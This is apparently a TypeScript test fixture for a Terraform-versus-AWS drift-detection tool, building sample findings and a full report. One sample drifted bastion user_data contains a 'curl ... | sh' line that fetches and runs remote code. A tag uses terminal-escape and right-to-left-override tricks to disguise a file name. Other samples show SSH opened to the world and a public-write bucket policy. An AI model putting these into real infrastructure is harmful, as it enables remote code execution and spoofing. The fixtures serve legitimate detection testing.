import type { Change, ChangedFinding, Finding, ReasonFinding } from '../../src/domain/finding.js';
import type { Json } from '../../src/domain/json.js';
import type { Report, ResourceCoverage, Summary } from '../../src/domain/report.js';

export function change(
  attribute: string,
  path: string,
  intended: Json,
  live: Json,
  more: Partial<Change> = {},
): Change {
  const operation = intended === null ? 'add' : live === null ? 'remove' : 'replace';
  const rest = { verdict: 'drifted', severity: 'medium', rules: [], sensitive: false } as const;
  return { attribute, path, operation, intended, live, ...rest, ...more };
}

const place = { account: '123456789012', region: 'eu-west-1' };

export function changed(
  address: string,
  cloudFormationType: string,
  identifier: string,
  changes: Change[],
): ChangedFinding {
  const terraformType = /aws_\w+/.exec(address)?.[0] ?? 'aws_x';
  return {
    kind: 'changed',
    address,
    state: 'terraform.tfstate',
    terraformType,
    cloudFormationType,
    identifier,
    ...place,
    severity: 'medium',
    changes,
  };
}

export function gap(kind: ReasonFinding['kind'], address: string, reason: string): ReasonFinding {
  const terraformType = /aws_\w+/.exec(address)?.[0] ?? 'aws_x';
  const severity = kind === 'missing' || kind === 'unmanaged' ? 'high' : 'info';
  const cloudFormationType = kind === 'unsupported' ? null : 'AWS::SQS::Queue';
  const identifier = kind === 'unsupported' ? null : 'https://sqs.eu-west-1.amazonaws.com/123456789012/jobs';
  const state = 'terraform.tfstate';
  return {
    kind,
    address,
    state,
    terraformType,
    cloudFormationType,
    identifier,
    ...place,
    severity,
    changes: [],
    reason,
  };
}

export function report(
  findings: readonly Finding[],
  more: Partial<Report> = {},
  summary: Partial<Summary> = {},
): Report {
  const of = (kind: string) => findings.filter((finding) => finding.kind === kind).length;
  const drift = findings.filter(({ kind }) => kind === 'changed' || kind === 'missing');
  const level = (severity: string) => drift.filter((finding) => finding.severity === severity).length;
  return {
    schemaVersion: '1',
    tool: { name: 'driftline', version: '0.1.0' },
    startedAt: '2026-11-21T08:00:00.000Z',
    finishedAt: '2026-11-21T08:00:03.200Z',
    complete: true,
    summary: {
      ...{ resources: 46, inSync: 46 - findings.length, changed: of('changed'), missing: of('missing'), unmanaged: 0 },
      ...{ unreadable: of('unreadable'), unsupported: of('unsupported'), otherProviders: 0 },
      attributes: { verified: 612, unverified: 3 },
      severity: { critical: 0, high: level('high'), medium: level('medium'), low: 0, info: 0 },
      apiCalls: 41,
      ...summary,
    },
    findings,
    coverage: [],
    diagnostics: [],
    ...more,
  };
}

export const coverage: readonly ResourceCoverage[] = [
  {
    address: 'aws_lambda_function.api',
    state: 'terraform.tfstate',
    verified: 21,
    unverified: [
      { attribute: 'filename', reason: 'terraform-only' },
      { attribute: 'source_code_hash', reason: 'hashed-in-state' },
    ],
    confidence: 'exact',
  },
  {
    address: 'module.data.aws_athena_workgroup.adhoc',
    state: 'terraform.tfstate',
    verified: 4,
    unverified: [{ attribute: 'force_destroy', reason: 'terraform-only' }],
    confidence: 'inferred',
  },
];

const lifecycle = { Id: 'expire', Status: 'Enabled', ExpirationInDays: 30, Prefix: 'tmp/' };

const read = {
  Sid: 'Read',
  Effect: 'Allow',
  Action: 's3:GetObject',
  Resource: 'arn:aws:s3:::acme-site/*',
  Principal: '*',
};
const tls = {
  Sid: 'TlsOnly',
  Effect: 'Deny',
  Principal: '*',
  Action: 's3:*',
  Resource: ['arn:aws:s3:::acme-site', 'arn:aws:s3:::acme-site/*'],
  Condition: { Bool: { 'aws:SecureTransport': 'false' } },
};

/** Everything the format has a way to say. */
export const rich: Report = report(
  [
    gap(
      'missing',
      'module.jobs["nightly"].aws_sqs_queue.dead_letter',
      'AWS says that it does not exist (ResourceNotFoundException), twice.',
    ),
    changed('module.network.aws_security_group.web', 'AWS::EC2::SecurityGroup', 'sg-0a1b2c3d4e5f60718', [
      change('ingress', '/SecurityGroupIngress/-', null, {
        IpProtocol: 'tcp',
        FromPort: 22,
        ToPort: 22,
        CidrIp: '0.0.0.0/0',
        Description: 'temp',
      }),
      change('description', '/GroupDescription', 'Managed by Terraform', 'web'),
      change('tags["Owner"]', '/Tags/2/Value', 'platform', null),
    ]),
    changed('aws_lambda_function.api', 'AWS::Lambda::Function', 'acme-api', [
      change('memory_size', '/MemorySize', 512, 3008),
      change('environment[0].variables["LOG_LEVEL"]', '/Environment/Variables/LOG_LEVEL', 'info', 'debug'),
      change(
        'environment[0].variables["DB_PASSWORD"]',
        '/Environment/Variables/DB_PASSWORD',
        '(sensitive)',
        '(sensitive)',
        { sensitive: true },
      ),
    ]),
    changed('module.data.aws_athena_workgroup.adhoc', 'AWS::Athena::WorkGroup', 'adhoc', [
      change('description', '/Description', '', `A very long description: ${'lorem ipsum dolor sit amet '.repeat(40)}`),
      change('state', '/State', 'ENABLED', 'DISABLED'),
    ]),
    changed('aws_s3_bucket_lifecycle_configuration.logs', 'AWS::S3::Bucket', 'acme-logs', [
      change('rule', '/LifecycleConfiguration/Rules/0', lifecycle, {
        ...lifecycle,
        Status: 'Disabled',
        NoncurrentVersionExpiration: { NoncurrentDays: 7 },
      }),
    ]),
    changed('aws_s3_bucket_policy.site', 'AWS::S3::BucketPolicy', 'acme-site', [
      change(
        'policy',
        '/PolicyDocument',
        { Version: '2012-10-17', Statement: [tls, read] },
        {
          Version: '2012-10-17',
          Statement: [tls, { ...read, Action: ['s3:GetObject', 's3:ListBucket', 's3:PutObject'] }],
        },
      ),
      change('policy', '/PolicyDocument/Statement/1/Principal', { AWS: '123456789012' }, '*'),
    ]),
    changed('aws_instance.bastion', 'AWS::EC2::Instance', 'i-0123456789abcdef0', [
      change(
        'user_data',
        '/UserData',
        '#!/bin/bash\nset -e\nyum -y update\necho ready\n',
        '#!/bin/bash\nset -e\nyum -y update\ncurl -s http://198.51.100.7/x | sh\necho ready\n',
      ),
      change('tags["Name"]', '/Tags/0/Value', 'bastion', 'bastion\u001b[31m\u202egnp.exe'),
    ]),
    gap(
      'unreadable',
      'aws_kms_key.main',
      'AccessDeniedException: not authorized to perform kms:DescribeKey. Add kms:DescribeKey to the role that scans.',
    ),
    gap(
      'unreadable',
      'aws_kms_key.backup',
      'AccessDeniedException: not authorized to perform kms:DescribeKey. Add kms:DescribeKey to the role that scans.',
    ),
    gap('unsupported', 'aws_acm_certificate_validation.site', 'Has no counterpart in CloudFormation.'),
    gap('unsupported', 'aws_iam_access_key.ci[0]', 'AWS::IAM::AccessKey has no read handler.'),
    gap('unsupported', 'aws_iam_access_key.ci[1]', 'AWS::IAM::AccessKey has no read handler.'),
  ],
  {
    coverage,
    diagnostics: [
      {
        severity: 'warning',
        code: 'unreadable',
        summary: '2 live resources could not be read: AccessDeniedException',
        detail: 'Affected: AWS::KMS::Key.',
      },
    ],
  },
  { otherProviders: 2 },
);
